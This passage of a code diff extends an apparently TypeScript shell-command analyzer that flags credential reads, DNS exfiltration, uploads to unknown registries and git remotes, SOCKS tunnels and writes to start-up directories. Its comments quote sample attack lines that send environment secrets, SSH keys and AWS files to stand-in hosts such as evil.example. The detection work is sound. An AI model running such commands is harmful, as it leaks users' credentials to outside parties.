@@ -2,9 +2,10 @@ import { posix } from 'node:path';
 import { classifyHost, hostOf } from '../net.js';
 import { credentialInUrl, parseUrl } from '../urls.js';
 import { globRead, isCriticalTree, type Level, normalizePath, sensitiveRead, sensitiveWrite } from '../sensitive.js';
-import { analyzeInlineCode } from './inline.js';
+import { analyzeInlineCode, vendorHost } from './inline.js';
 import { type Command, echoValue, parseShell, type Script, type Word } from './parser.js';
 import {
+  CREDENTIAL_PRINTERS,
   CRYPTOMINERS,
   CURL_VALUE_OPTS,
   DISK_TOOLS,
@@ -12,14 +13,17 @@ import {
   ENV_LOADERS,
   GUARD_SERVICES,
   INTERPRETERS,
+  NAME_LOOKUP,
   NON_READING,
   PARALLEL_VALUE_OPTS,
   POWER,
   PRIVILEGE_TOOLS,
+  PUBLISH_TARGET_OPTS,
   SECRET_VAR,
   SHELLS,
   SOCKET_TOOLS,
   SSH_VALUE_OPTS,
+  STDIN_FILE_LIST,
   TUNNELS,
   WGET_VALUE_OPTS,
   WRAPPERS,
@@ -49,6 +53,9 @@ export const MAX_SHELL_CHARS = 64 * 1024;
 const MAX_DEPTH = 4;
 /** Findings reported per command line; the verdict needs one, an operator a handful. */
 const MAX_ISSUES = 32;
+
+/** Programs that delete their arguments (judged by `remove`, not as readers of what find or a listing names). */
+const REMOVERS = new Set(['rm', 'rmdir', 'unlink', 'shred', 'srm']);
 
 const DECODERS = new Set(['base64', 'base32', 'basenc', 'xxd', 'uudecode', 'openssl', 'gunzip', 'zcat', 'gzip', 'bzip2', 'bunzip2', 'xz', 'unxz', 'rev', 'tr', 'printf', 'echo', 'perl', 'python', 'python3']);
 
@@ -140,7 +147,7 @@ interface Invocation {
   /** Names the wrapper in reasons when the command is a shell string a wrapper runs (`watch 'cmd'`). */
   readonly label?: string;
   /** Run by xargs: its replace string (`-I R`, `-i`) and whether it reads its input from a file (`-a`). */
-  readonly xargs?: { readonly replace?: string; readonly argFile: boolean; readonly delimiter?: string };
+  readonly xargs?: { readonly replace?: string; readonly argFile: boolean; readonly delimiter?: string; readonly file?: Word };
 }
 
 const unwrapped = new WeakMap<Command, Invocation | undefined>();
@@ -180,7 +187,7 @@ function asShellC(wrapperWord: Word, script: readonly Word[], cmd: Command, wrap
 function unwrapUncached(argv: readonly Word[], cmd: Command, wrappers: string[]): Invocation | undefined {
   let i = 0;
   const assigns = [...cmd.assigns];
-  let xargs: { replace?: string; argFile: boolean; delimiter?: string } | undefined;
+  let xargs: { replace?: string; argFile: boolean; delimiter?: string; file?: Word } | undefined;
   while (i < argv.length) {
     const w = argv[i]!;
     const name = basename(w.text);
@@ -233,7 +240,11 @@ function unwrapUncached(argv: readonly Word[], cmd: Command, wrappers: string[])
           else if (t === '-i' || t === '--replace') xargs.replace = '{}';
           else if (/^-i./.test(t)) xargs.replace = t.slice(2);
           else if (t.startsWith('--replace=')) xargs.replace = t.slice(10) || '{}';
-          else if (t === '-a' || t === '--arg-file' || /^-a./.test(t) || t.startsWith('--arg-file=')) xargs.argFile = true;
+          else if (t === '-a' || t === '--arg-file' || /^-a./.test(t) || t.startsWith('--arg-file=')) {
+            xargs.argFile = true;
+            const file = t === '-a' || t === '--arg-file' ? argv[i + 1] : { ...argv[i]!, text: t.startsWith('-a') ? t.slice(2) : t.slice(11) };
+            if (file) xargs.file = file;
+          }
           else if (t === '-0' || t === '--null') xargs.delimiter = '\0';
           else if ((t === '-d' || t === '--delimiter') && next !== undefined) xargs.delimiter = next;
           else if (/^-d./.test(t)) xargs.delimiter = t.slice(2);
@@ -523,7 +534,7 @@ export class ShellAnalyzer {
   }
 
   private inline(code: string, lang: string, span: { start: number; end: number }): void {
-    for (const hit of analyzeInlineCode(code)) this.add(hit.category, hit.level, `${lang} inline code: ${hit.reason}`, span, hit.score);
+    for (const hit of analyzeInlineCode(code, (h) => this.known(h))) this.add(hit.category, hit.level, `${lang} inline code: ${hit.reason}`, span, hit.score);
     if (this.depth < MAX_DEPTH) {
       for (const shell of inlineShellStrings(code)) this.nested(shell, span, `${lang} inline code runs a shell command`);
     }
@@ -573,6 +584,7 @@ export class ShellAnalyzer {
       if (cmd.keyword === 'declare' || cmd.keyword === 'typeset' || cmd.keyword === 'export') {
         if (cmd.argv.length === 0 && cmd.assigns.length === 0) this.add('credential_read', 'review', `"${cmd.keyword}" without arguments prints the environment (may hold API keys)`, cmd);
         else if (cmd.argv.some((a) => a.text === '-p' || a.text === '-x') && cmd.assigns.length === 0 && cmd.argv.length <= 1) this.add('credential_read', 'review', `"${cmd.keyword} -p" prints the environment (may hold API keys)`, cmd);
+        else if (cmd.argv.some((a) => a.text === '-p') && cmd.argv.some((a) => SECRET_VAR.test(a.text))) this.add('credential_read', 'review', `"${cmd.keyword} -p" prints a secret variable`, cmd);
       }
       return;
     }
@@ -637,6 +649,11 @@ export class ShellAnalyzer {
     if (inv.xargs) {
       // xargs appends what it reads (or puts it where `-I R` says): judge the command with those arguments.
       const { xargs, ...rest } = inv;
+      // `xargs -a ~/.ssh/id_rsa echo` prints the file as arguments.
+      const fileHit = xargs.file ? firstOf(this.paths(xargs.file.text), (n) => sensitiveRead(n) ?? globRead(n)) : undefined;
+      if (fileHit && xargs.file) this.add(fileHit.category, fileHit.level, `xargs reads ${fileHit.what} (-a)`, xargs.file);
+      // `find ~/.aws -type f | xargs cat`: a reader run on the files a listing of a credential directory names.
+      if (!NON_READING.has(inv.name) && !REMOVERS.has(inv.name)) this.listedSecrets(inv, upstream, `${inv.name} (via xargs)`);
       for (const args of xargsArgs(inv, xargs, this.inputOf(inv.cmd, upstream, xargs.argFile), this.depth === 0)) this.invocation({ ...rest, args }, upstream);
       return;
     }
@@ -673,6 +690,7 @@ export class ShellAnalyzer {
     }
     if (name === 'cd' || name === 'pushd' || name === 'popd') this.chdir(inv);
     this.readsAndWrites(inv);
+    this.stdinFileList(inv, upstream);
     this.secretVars(inv);
     if (SHELLS.has(name) || name === 'eval' || name === 'source' || name === '.') this.shellLike(inv, upstream);
     else if (name in INTERPRETERS) this.interpreter(inv, upstream);
@@ -876,7 +894,7 @@ export class ShellAnalyzer {
     const { name, args } = inv;
     const envLoader = ENV_LOADERS.has(name);
     if (!NON_READING.has(name)) {
-      const skipLast = ['cp', 'install', 'rsync', 'scp', 'ln', 'tee', 'dd'].includes(name) ? positionals(args).at(-1) : undefined;
+      const skipLast = ['cp', 'install', 'rsync', 'scp', 'ln', 'tee', 'dd', 'mv'].includes(name) ? positionals(args).at(-1) : undefined;
       const outputs = new Set(optValues(args, ['-o', '-O', '-out', '-keyout', '--output', '--out', '--output-document', '--keyout']).map((w) => w.start));
       for (const a of args) {
         if (a === skipLast || outputs.has(a.start)) continue;
@@ -888,13 +906,87 @@ export class ShellAnalyzer {
           break;
         }
       }
+      if (name === 'tar' || name === 'bsdtar') this.tarDirectory(inv);
     } else if (name === 'find' || name === 'ls' || name === 'tree') {
       this.findSecrets(inv);
     }
-    for (const w of writeTargets(inv)) {
+    for (const w of [...writeTargets(inv), ...intoDirTargets(inv)]) {
       const hit = firstOf(this.paths(w.text), sensitiveWrite);
+      // `chmod 600 ~/.ssh/id_rsa`, `touch`: no content written, nothing destroyed.
+      if (hit && hit.category === 'destructive' && /^(?:chmod|chown|touch|mkdir)$/.test(name)) continue;
       if (hit) this.add(hit.category, hit.level, `${name} writes to ${hit.what}`, w);
     }
+    // `tar xf x.tar -C ~`, `unzip -o x.zip -d ~`, `rsync -a dotfiles/ ~/`: files the line does not name land
+    // where start-up files and SSH keys live. A human decides (unpacking into ~/.local stays allowed).
+    const into = extractTarget(inv);
+    if (into && this.paths(into.text).some((n) => STARTUP_DIRS.test(n))) this.add('persistence', 'review', `${name} unpacks files it does not name into the home directory or a start-up directory`, into);
+  }
+
+  /** `tar -C ~ -czf - .ssh`: the names after `-C DIR` are read in DIR. */
+  private tarDirectory(inv: Invocation): void {
+    const { args } = inv;
+    let dir: string | undefined;
+    for (let i = 0; i < args.length; i++) {
+      const t = args[i]!.text;
+      if (t === '-C' || t === '--directory') {
+        dir = args[++i]?.text;
+        continue;
+      }
+      if (t.startsWith('--directory=') || /^-C./.test(t)) {
+        dir = t.startsWith('-C') ? t.slice(2) : t.slice(12);
+        continue;
+      }
+      if (dir === undefined || t.startsWith('-') || t.startsWith('/') || t.startsWith('~')) continue;
+      const hit = firstOf(this.paths(posix.join(dir, t)), (n) => sensitiveRead(n) ?? globRead(n));
+      if (hit) {
+        this.add(hit.category, hit.level, `${inv.name} reads ${hit.what} (after -C)`, args[i]!);
+        return;
+      }
+    }
+  }
+
+  /** The places `find` lists: each root, or ROOT/NAME for `-name NAME`, or the `-path` pattern. */
+  private findListed(inv: Invocation): string[] {
+    const first = inv.args.findIndex((a) => /^[-(!]/.test(a.text));
+    const roots = (first < 0 ? inv.args : inv.args.slice(0, first)).map((r) => r.text);
+    const names = optValues(inv.args, ['-name', '-iname']).map((v) => v.text);
+    const out = optValues(inv.args, ['-path', '-ipath', '-wholename']).map((v) => v.text);
+    for (const r of roots.length > 0 ? roots : ['.']) {
+      if (names.length === 0) out.push(r);
+      for (const n of names) out.push(`${r.replace(/\/+$/, '')}/${n}`);
+    }
+    return out;
+  }
+
+  /**
+   * A pipeline that lists a credential directory into a program that reads the listed files:
+   * `find ~/.aws -type f | xargs cat`, `ls -d ~/.ssh/* | xargs cat`, `find ~/.ssh | cpio -o`.
+   */
+  private listedSecrets(inv: Invocation, upstream: readonly Command[], label: string): void {
+    for (const u of upstream) {
+      const uinv = unwrap(u.argv, u);
+      if (!uinv) continue;
+      const places = uinv.name === 'find' ? this.findListed(uinv) : /^(?:ls|tree|fd|fdfind)$/.test(uinv.name) ? positionals(uinv.args).map((p) => p.text) : [];
+      for (const place of places) {
+        const hit = firstOf(this.paths(place), (n) => sensitiveRead(n) ?? globRead(n));
+        if (hit) {
+          this.add(hit.category, hit.level, `${label} reads ${hit.what} listed by ${uinv.name}`, inv.cmd);
+          return;
+        }
+      }
+    }
+  }
+
+  /** `cpio -o`, `tar -T -`, `zip -@`, `rsync --files-from=-`: read the files whose names come in on stdin. */
+  private stdinFileList(inv: Invocation, upstream: readonly Command[]): void {
+    const flags = STDIN_FILE_LIST[inv.name];
+    if (!flags || upstream.length === 0) return;
+    const fromStdin = flags.some((f) => {
+      if (f === '-@' || f === '--names-stdin') return inv.args.some((a) => a.text === f);
+      if (f === '-o' || f === '--create') return hasFlag(inv.args, 'o', '--create');
+      return optValues(inv.args, [f]).some((v) => v.text === '-' || v.text === '/dev/stdin');
+    });
+    if (fromStdin) this.listedSecrets(inv, upstream, inv.name);
   }
 
   /** `find ~ -name id_rsa`: searching the home directory or the root for key files. */
@@ -916,7 +1008,7 @@ export class ShellAnalyzer {
 
   private secretVars(inv: Invocation): void {
     const { name, args } = inv;
-    const network = DOWNLOADERS.has(name) || name === 'scp' || name === 'rsync' || name === 'dig' || name === 'nslookup' || name === 'host' || name === 'ping';
+    const network = DOWNLOADERS.has(name) || name === 'scp' || name === 'rsync' || NAME_LOOKUP.has(name);
     for (let i = 0; i < args.length; i++) {
       const a = args[i]!;
       const secret = a.vars.find((v) => SECRET_VAR.test(v));
@@ -933,8 +1025,59 @@ export class ShellAnalyzer {
       }
       return;
     }
+    if (name === 'printenv') {
+      const v = positionals(args).find((p) => SECRET_VAR.test(p.text));
+      if (v) this.add('credential_read', 'review', `printenv prints the secret variable $${v.text}`, v);
+    }
+    if (name === 'ps' && /^[a-zA-Z]*e[a-zA-Z]*$/.test(args[0]?.text ?? '')) this.add('credential_read', 'review', "ps e prints other processes' environments (may hold API keys)", inv.cmd);
     if ((name === 'env' || name === 'printenv' || name === 'set') && !inv.cmd.pipe && positionals(args).length === 0 && !args.some((a) => a.text === '-o' || a.text === '+o')) {
       if (name !== 'set' || args.length === 0) this.add('credential_read', 'review', `${name} prints the environment (may hold API keys)`, inv.cmd);
+    }
+  }
+
+  /**
+   * `env | grep -i token`, `printenv | sort`: the environment printed through a filter. `env` alone is
+   * reviewed; piped it was allowed, for `env | grep -i proxy`. A filter for secret names, or a program
+   * that passes everything on, prints the keys again.
+   */
+  private envFilter(inv: Invocation, upstream: readonly Command[]): void {
+    const dumps = upstream.some((u) => {
+      const uinv = unwrap(u.argv, u);
+      return !!uinv && (uinv.name === 'env' || uinv.name === 'printenv') && positionals(uinv.args).length === 0;
+    });
+    if (!dumps) return;
+    const { name, args } = inv;
+    if (/^(?:grep|egrep|fgrep|rg|ag|ack)$/.test(name)) {
+      const pattern = [...optValues(args, ['-e', '--regexp']), ...positionals(args, new Set(['-e', '--regexp', '-m', '-A', '-B', '-C', '--max-count'])).slice(0, 1)];
+      if (pattern.some((p) => /key|token|secret|pass|auth|cred|session|cookie|bearer|private/i.test(p.text))) this.add('credential_read', 'review', `${name} picks secret variables out of the environment`, inv.cmd);
+    } else if (/^(?:sort|cat|tee|less|more|base64|base32|xxd|od|hexdump|column|uniq|tac|head|tail|nl|rev|gzip|tr|fold)$/.test(name)) {
+      this.add('credential_read', 'review', `prints the environment (may hold API keys) through ${name}`, inv.cmd);
+    }
+  }
+
+  /** `dig $(…).evil.example`, `for x in $(env | base64); do dig $x.evil.example; done`: data carried in a DNS name. */
+  private nameLookup(inv: Invocation): void {
+    const { name, args, cmd } = inv;
+    if (args.some((a) => a.subst.length > 0)) {
+      this.add('exfiltration', 'deny', `${name} looks up a name built from command output (DNS exfiltration)`, cmd);
+      return;
+    }
+    // A variable in front of a fixed domain: the loop over encoded data above, or an innocent `$SUB.example.com`.
+    const built = positionals(args).find((a) => a.dynamic && /\$\{[^}]+\}[\w-]*\.[\w-]+\.[a-z]{2,}\.?$/i.test(a.text));
+    if (built && !this.networkTargetsKnown(inv)) this.add('exfiltration', 'review', `${name} looks up a name built from a variable on a fixed domain (DNS exfiltration when it carries data)`, built);
+  }
+
+  /** `npm publish --registry https://evil.example/`, `twine upload --repository-url …`: the project uploaded to an unknown host. */
+  private publish(inv: Invocation): void {
+    const verb = positionals(inv.args, new Set(PUBLISH_TARGET_OPTS))[0]?.text ?? '';
+    if (!/^(?:publish|upload|push)$/.test(verb)) return;
+    const targets = [...optValues(inv.args, PUBLISH_TARGET_OPTS), ...inv.assigns.filter((a) => /^(?:npm_config_registry|TWINE_REPOSITORY_URL|UV_PUBLISH_URL|POETRY_REPOSITORIES_\w+_URL|CARGO_REGISTRIES_\w+_INDEX|GEM_HOST)$/i.test(a.name) && a.value).map((a) => a.value!)];
+    for (const t of targets) {
+      const host = looksLikeUrl(t.text.replace(/^sparse\+/, '')) ? hostOf(t.text.replace(/^sparse\+/, '')) : undefined;
+      if (host && !this.known(host)) {
+        this.add('exfiltration', 'deny', `${inv.name} ${verb} uploads the project to a registry on an unknown host`, t);
+        return;
+      }
     }
   }
 
@@ -1004,7 +1147,7 @@ export class ShellAnalyzer {
       }
     } else if (name === 'openssl') {
       for (const v of optValues(args, ['-connect'])) out.push(v.text.replace(/:\d+$/, '').toLowerCase());
-    } else if (name === 'dig' || name === 'nslookup' || name === 'host' || name === 'ping' || name === 'traceroute') {
+    } else if (NAME_LOOKUP.has(name)) {
       for (const p of positionals(args)) if (p.text.includes('.')) out.push(p.text.replace(/^@/, '').toLowerCase());
     } else if (name === 'ftp' || name === 'lftp' || name === 'tftp') {
       const p = positionals(args)[0];
@@ -1034,6 +1177,11 @@ export class ShellAnalyzer {
     if (POWER.has(name) || (name === 'init' && /^[06]$/.test(all[0] ?? '')) || (name === 'systemctl' && /^(?:poweroff|reboot|halt|kexec|emergency|rescue)$/.test(all.find((t) => !t.startsWith('-')) ?? ''))) {
       this.add('destructive', 'deny', `${name} shuts the machine down or reboots it`, cmd);
     }
+    const line = `${name} ${all.join(' ')}`;
+    const printer = CREDENTIAL_PRINTERS.find((p) => p.re.test(line));
+    if (printer) this.add('credential_read', printer.level, printer.what, cmd);
+    if (NAME_LOOKUP.has(name)) this.nameLookup(inv);
+    if (upstream.length > 0) this.envFilter(inv, upstream);
     switch (name) {
       case 'rm':
       case 'rmdir':
@@ -1080,7 +1228,7 @@ export class ShellAnalyzer {
         for (const p of positionals(args).slice(name === 'setfacl' ? 0 : 1)) {
           const ns = this.paths(p.text);
           const hit = firstOf(ns, sensitiveWrite);
-          if (ns.some(isCriticalTree) || (hit && hit.category !== 'persistence')) {
+          if (ns.some(isCriticalTree) || (hit && hit.category !== 'persistence' && hit.category !== 'destructive')) {
             this.add(name === 'chattr' ? 'defense_evasion' : 'privilege_escalation', 'deny', `${name} changes ownership or attributes of ${hit?.what ?? 'a system tree'}`, p);
             break;
           }
@@ -1170,14 +1318,7 @@ export class ShellAnalyzer {
         this.copyOut(inv);
         break;
       case 'openssl':
-        if (all[0] === 's_client' && upstream.length > 0 && !this.networkTargetsKnown(inv)) this.add('exfiltration', 'deny', 'openssl s_client sends piped data to an unknown host', cmd);
-        break;
-      case 'dig':
-      case 'nslookup':
-      case 'host':
-      case 'ping':
-      case 'traceroute':
-        if (args.some((a) => a.subst.length > 0)) this.add('exfiltration', 'deny', `${name} looks up a name built from command output (DNS exfiltration)`, cmd);
+        if (all[0] === 's_client' && (upstream.length > 0 || stdinFed(cmd)) && !this.networkTargetsKnown(inv)) this.add('exfiltration', 'deny', 'openssl s_client sends piped or redirected data to an unknown host', cmd);
         break;
       case 'psql':
       case 'mysql':
@@ -1234,7 +1375,15 @@ export class ShellAnalyzer {
       case 'cargo':
       case 'go':
         this.packageInstall(inv);
+        this.publish(inv);
         if (name === 'npm' || name === 'pnpm' || name === 'yarn') this.packageManagerConfig(inv);
+        break;
+      case 'twine':
+      case 'poetry':
+      case 'flit':
+      case 'hatch':
+      case 'bun':
+        this.publish(inv);
         break;
       case 'nmap':
       case 'masscan':
@@ -1328,7 +1477,13 @@ export class ShellAnalyzer {
       i = j;
       if (sub.length === 0) continue;
       const sinv = unwrap(sub, inv.cmd);
-      if (sinv && sinv.name !== 'rm') this.invocation(sinv, []);
+      if (!sinv || sinv.name === 'rm') continue;
+      this.invocation(sinv, []);
+      // `find ~/.aws -type f -exec cat {} +`: judge the command with each place find lists put for `{}`.
+      if (REMOVERS.has(sinv.name) || !sinv.args.some((a) => a.text.includes('{}'))) continue;
+      for (const place of this.findListed(inv)) {
+        this.invocation({ ...sinv, args: sinv.args.map((a) => (a.text.includes('{}') ? { ...a, text: a.text.split('{}').join(place) } : a)) }, []);
+      }
     }
   }
 
@@ -1443,6 +1598,27 @@ export class ShellAnalyzer {
     for (const c of cfg) {
       if (/^core\.(?:sshCommand|pager|editor|fsmonitor|hooksPath)=|^alias\.[^=]+=!/.test(c.text)) this.add('obfuscation', 'review', 'git -c sets a setting that runs a command', c);
     }
+    for (const c of cfg) {
+      // `git -c remote.origin.pushurl=https://evil.example/x.git push`
+      const m = /^remote\.[^=]*\.(?:push)?url=(.*)$/i.exec(c.text);
+      const host = m ? (remoteHost(m[1]!) ?? hostOf(m[1]!)) : undefined;
+      if (host && !this.known(host)) this.add('exfiltration', 'review', 'git -c points a remote at an unknown host', c);
+    }
+    // `git clone --upload-pack='cmd' . x` runs the command locally (for a local or ssh repository).
+    for (const v of optValues(inv.args, verb === 'clone' ? ['--upload-pack', '-u', '--receive-pack', '--exec'] : ['--upload-pack', '--receive-pack', '--exec'])) {
+      if (!v.dynamic) this.nested(v.text, v, `git ${verb} --upload-pack`);
+      this.add('obfuscation', 'review', `git ${verb} runs the command given in --upload-pack / --receive-pack / --exec`, v);
+    }
+    // Files git copies into the repository (then a push sends them) or prints.
+    const fileArgs = verb === 'hash-object' ? pos.slice(1) : optValues(inv.args, verb === 'blame' ? ['--contents'] : verb === 'config' ? ['-f', '--file', '--blob'] : /^(?:commit|tag|notes|merge)$/.test(verb) ? ['-F', '--file'] : []);
+    for (const f of fileArgs) {
+      const hit = firstOf(this.paths(f.text), (n) => sensitiveRead(n) ?? globRead(n));
+      if (hit) {
+        this.add(hit.category, hit.level, `git ${verb} reads ${hit.what}`, f);
+        break;
+      }
+    }
+    if (verb === 'send-email') this.add('exfiltration', 'review', 'git send-email mails commits or files', inv.cmd);
     if (verb === 'push') {
       const remote = pos[1]?.text ?? '';
       const host = remoteHost(remote) ?? (looksLikeUrl(remote) ? hostOf(remote) : undefined);
@@ -1452,7 +1628,11 @@ export class ShellAnalyzer {
       const host = remoteHost(url) ?? hostOf(url);
       if (host && !this.known(host)) this.add('exfiltration', 'review', 'git remote points at an unknown host', pos[pos.length - 1]!);
     } else if (verb === 'config') {
-      const key = pos.find((p) => /^(?:core\.(?:hooksPath|fsmonitor|sshCommand|pager|editor)|alias\.|credential\.helper|url\..*\.insteadOf)/i.test(p.text));
+      const key = pos.find((p) => /^(?:core\.(?:hooksPath|fsmonitor|sshCommand|pager|editor)|alias\.|credential\.helper|url\..*\.(?:push)?insteadOf)/i.test(p.text));
+      const remoteUrl = pos.findIndex((p) => /^remote\..*\.(?:push)?url$/i.test(p.text));
+      const url = remoteUrl > 0 ? pos[remoteUrl + 1] : undefined;
+      const urlHost = url ? (remoteHost(url.text) ?? hostOf(url.text)) : undefined;
+      if (url && urlHost && !this.known(urlHost)) this.add('exfiltration', 'review', 'git config points a remote at an unknown host', url);
       if (key && pos.length >= 3) this.add('persistence', 'review', `git config sets ${key.text.split('.').slice(0, 2).join('.')} (runs code or redirects remotes)`, key);
       if (pos.some((p) => /^credential\./.test(p.text)) && inv.args.some((a) => a.text === '--get' || a.text === '--list')) this.add('credential_read', 'review', 'git config reads credential settings', inv.cmd);
     } else if (verb === 'credential' && /^(?:fill|get)$/.test(pos[1]?.text ?? '')) {
@@ -1501,6 +1681,11 @@ export class ShellAnalyzer {
     if (args.some((a) => a.text === '--noproxy' || a.text.startsWith('--noproxy=') || a.text === '--no-proxy') || optValues(args, ['-e', '--execute']).some((v) => /use_proxy\s*=\s*(?:no|off)/i.test(v.text))) {
       this.add('defense_evasion', 'deny', `${name} bypasses the egress proxy`, cmd);
     }
+    if (name === 'curl') {
+      // tree-sitter drops a last `-` before a heredoc (`curl -K - <<EOF`): a bare trailing -K reads stdin.
+      const bare = args.find((a, i) => /^(?:-K|--config)$/.test(a.text) && i === args.length - 1);
+      for (const v of [...optValues(args, ['-K', '--config']), ...(bare ? [{ ...bare, text: '-' }] : [])]) this.curlConfig(inv, v);
+    }
     const unknown = hosts.length === 0 ? upstream.length > 0 : !hosts.every((h) => this.known(h));
     if (!unknown) return;
     const uploads: Word[] = [];
@@ -1536,7 +1721,7 @@ export class ShellAnalyzer {
         if (m) uploads.push({ ...a, text: (m[1] ?? m[2])! });
         else if (/^[^=:]+:?=/.test(a.text) && a.subst.length > 0) dynamicBody = true;
       }
-      if (upstream.length > 0 && !args.some((a) => a.text === '--ignore-stdin')) stdinUpload = true;
+      if ((upstream.length > 0 || stdinFed(cmd)) && !args.some((a) => a.text === '--ignore-stdin')) stdinUpload = true;
     }
     if (args.some((a) => looksLikeUrl(a.text) && a.subst.length > 0)) dynamicBody = true;
     const target = hosts.length > 0 ? 'an unknown host' : 'a host read at run time';
@@ -1551,7 +1736,37 @@ export class ShellAnalyzer {
     }
     if (uploads.length > 0) this.add('exfiltration', 'deny', `${name} uploads a local file to ${target}`, uploads[0]!);
     else if (stdinUpload && upstream.length > 0) this.add('exfiltration', 'deny', `${name} uploads piped data to ${target}`, cmd);
+    // `curl -T - URL < file`, `curl -d @- URL <<< "$(env)"`: stdin from a file or from command output is an upload too.
+    else if (stdinUpload && stdinFed(cmd)) this.add('exfiltration', 'deny', `${name} uploads a file or command output given on stdin to ${target}`, cmd);
     else if (dynamicBody) this.add('exfiltration', 'deny', `${name} sends command output to ${target}`, cmd);
+  }
+
+  /**
+   * `curl -K FILE` takes options (URL, `upload-file`, `data`) from a file: from a heredoc or here-string
+   * the line spells them out, and they are judged as options; from a file the line does not show, a
+   * human decides.
+   */
+  private curlConfig(inv: Invocation, v: Word): void {
+    const text = v.text === '-' || v.text === '/dev/stdin' ? inv.cmd.redirects.find((r) => r.op.startsWith('<<'))?.text : undefined;
+    if (text === undefined || /\$\(|`/.test(text)) {
+      this.add('exfiltration', 'review', 'curl reads its options (URL, uploads) from a file the line does not show', v);
+      return;
+    }
+    const opts: string[] = [];
+    for (const raw of text.split('\n')) {
+      const m = /^\s*-{0,2}([A-Za-z][\w-]*)(?:\s*[=:\s]\s*(?:"((?:[^"\\]|\\.)*)"|(\S+)))?\s*$/.exec(raw);
+      if (!m || raw.trim().startsWith('#')) continue;
+      const key = m[1]!.length === 1 ? `-${m[1]}` : `--${m[1]}`;
+      const value = m[2] ?? m[3];
+      opts.push(value === undefined ? key : `${key} '${value.replace(/'/g, `'\\''`)}'`);
+    }
+    const rest: string[] = [];
+    for (let i = 0; i < inv.args.length; i++) {
+      const t = inv.args[i]!.text;
+      if (t === '-K' || t === '--config') i++;
+      else if (!/^(?:-K.|--config=)/.test(t)) rest.push(`'${t.replace(/'/g, `'\\''`)}'`);
+    }
+    this.nested(['curl', ...opts, ...rest].join(' '), v, 'curl -K options');
   }
 
   private socket(inv: Invocation, upstream: readonly Command[]): void {
@@ -1586,6 +1801,8 @@ export class ShellAnalyzer {
       if (m) this.nested(m[1]!, o, 'ssh runs a local command');
     }
     if (args.some((a) => a.text === '-R' || /^-[a-zA-Z]*R/.test(a.text)) && !known) this.add('tunnel', 'review', 'ssh -R exposes a local port on a remote host', cmd);
+    // `ssh -D 1080 host`: a SOCKS proxy through the remote host, a way around the egress proxy.
+    if (args.some((a) => /^-[a-zA-Z]*D/.test(a.text) || /^-oDynamicForward/i.test(a.text)) && !known) this.add('tunnel', 'review', 'ssh -D opens a SOCKS proxy through a remote host (around the egress proxy)', cmd);
     const remote = pos.slice(1);
     if (remote.length > 0 && remote.every((r) => !r.dynamic)) this.nested(remote.map((r) => r.text).join(' '), { start: remote[0]!.start, end: remote[remote.length - 1]!.end }, 'remote command over ssh');
     if (!known && (upstream.length > 0 || cmd.redirects.some((r) => r.op === '<'))) this.add('exfiltration', 'deny', 'ssh sends local data to an unknown host', cmd);
@@ -1777,11 +1994,11 @@ export class ShellAnalyzer {
   }
 }
 
-/** `$NOTION_API_KEY` sent to api.notion.com: the variable names the vendor whose host receives it. */
-function vendorHost(variable: string, host: string): boolean {
-  const vendor = variable.toLowerCase().split('_').find((p) => p.length >= 3 && !/^(?:api|key|token|secret|access|auth|pat|bearer|personal|the|my)$/.test(p));
-  return !!vendor && host.split('.').some((label) => label === vendor || (label.startsWith(vendor) && label.length - vendor.length <= 3));
+/** The command's stdin is a file (`< file`) or command output (`<<< "$(env)"`, a heredoc with substitutions): not text the line spells out. */
+function stdinFed(cmd: Command): boolean {
+  return cmd.redirects.some((r) => (r.op === '<' && !!r.target && r.target.text !== '/dev/null') || (r.op === '<<<' && !!r.target && r.target.subst.length > 0) || (r.op.startsWith('<<') && r.op !== '<<<' && /\$\(|`/.test(r.text ?? '')));
 }
+
 
 function safePath(url: string): string {
   try {
@@ -1875,6 +2092,24 @@ function writeTargets(inv: Invocation): Word[] {
     case 'perl':
       if (args.some((a) => /^-[a-zA-Z]*i/.test(a.text) || a.text.startsWith('--in-place'))) out.push(...positionals(args, new Set(['-e', '-f'])).slice(optValues(args, ['-e']).length > 0 ? 0 : 1));
       break;
+    case 'ed':
+    case 'red':
+    case 'ex':
+    case 'vi':
+    case 'vim':
+    case 'nvim':
+    case 'nano':
+      // Scripted edits (`ed -s ~/.bashrc <<< …`, `ex -sc 'a|…' -cx FILE`) write the files they open.
+      out.push(...positionals(args, new Set(['-c', '--cmd', '-S', '-u', '-U', '-i', '-T', '-w', '-W', '-t', '-q'])).filter((p) => !p.text.startsWith('+')));
+      break;
+    case 'awk':
+    case 'gawk':
+      // `gawk -i inplace '…' FILE` rewrites FILE.
+      if (args.some((a, i) => ((a.text === '-i' || a.text === '--include') && args[i + 1]?.text === 'inplace') || a.text === '-iinplace' || a.text === '--include=inplace')) {
+        const progFile = args.some((a) => a.text === '-f' || a.text.startsWith('--file'));
+        out.push(...positionals(args, new Set(['-F', '-v', '-f', '-i', '--include', '--file'])).slice(progFile ? 0 : 1));
+      }
+      break;
     case 'truncate':
     case 'touch':
     case 'mkdir':
@@ -1898,6 +2133,39 @@ function writeTargets(inv: Invocation): Word[] {
       break;
   }
   return out;
+}
+
+/** Directories whose files run at log-in or grant access: the home directory itself, ~/.ssh, ~/.config/systemd, … */
+const STARTUP_DIRS = /^~$|^~\/\.(?:ssh|gnupg|bashrc\.d|config|config\/(?:systemd(?:\/user)?|autostart|environment\.d|fish(?:\/conf\.d|\/functions)?|git)|local\/share\/systemd(?:\/user)?)$/i;
+
+/** Where an archive is unpacked (`tar x -C DIR`, `unzip -d DIR`, `7z x -oDIR`) or a directory's contents copied (`rsync -a src/ DIR`, `cp -r src/. DIR`). */
+function extractTarget(inv: Invocation): Word | undefined {
+  const { name, args } = inv;
+  if (name === 'tar' || name === 'bsdtar') {
+    if (!args.some((a) => /^-?[a-zA-Z]*x/.test(a.text) || a.text === '--extract' || a.text === '--get')) return undefined;
+    return optValues(args, ['-C', '--directory'])[0];
+  }
+  if (name === 'unzip') return optValues(args, ['-d'])[0];
+  if (name === '7z' || name === '7za') return optValues(args, ['-o'])[0];
+  if (name === 'rsync' || name === 'cp') {
+    const pos = positionals(args, new Set(['-e', '--rsh', '--exclude', '--include', '--filter', '-f', '-t', '--target-directory']));
+    if (pos.length >= 2 && pos.slice(0, -1).some((p) => /\/\.?$/.test(p.text) && p.text !== '/')) return pos[pos.length - 1];
+  }
+  return undefined;
+}
+
+/**
+ * `cp authorized_keys ~/.ssh/`, `cp .bashrc ~`: a copy into a directory writes DIR/NAME. The last word
+ * may be a file or a directory; judged as both (the file is `writeTargets`' part).
+ */
+function intoDirTargets(inv: Invocation): Word[] {
